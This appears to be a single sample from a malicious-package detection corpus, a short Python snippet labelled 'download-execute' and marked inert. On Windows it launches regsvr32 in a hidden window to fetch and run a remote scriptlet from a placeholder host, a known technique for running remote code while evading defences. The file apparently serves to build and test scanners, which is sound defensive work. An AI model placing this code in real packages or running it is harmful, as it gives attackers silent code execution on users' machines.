# pkgguard corpus 648 (download-execute), modelled on [checkmarx-2024]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(
        ["regsvr32", "/s", "/n", "/u", "/i:https://cdn-assets.example/c.sct", "scrobj.dll"],
        creationflags=0x08000000,
    )
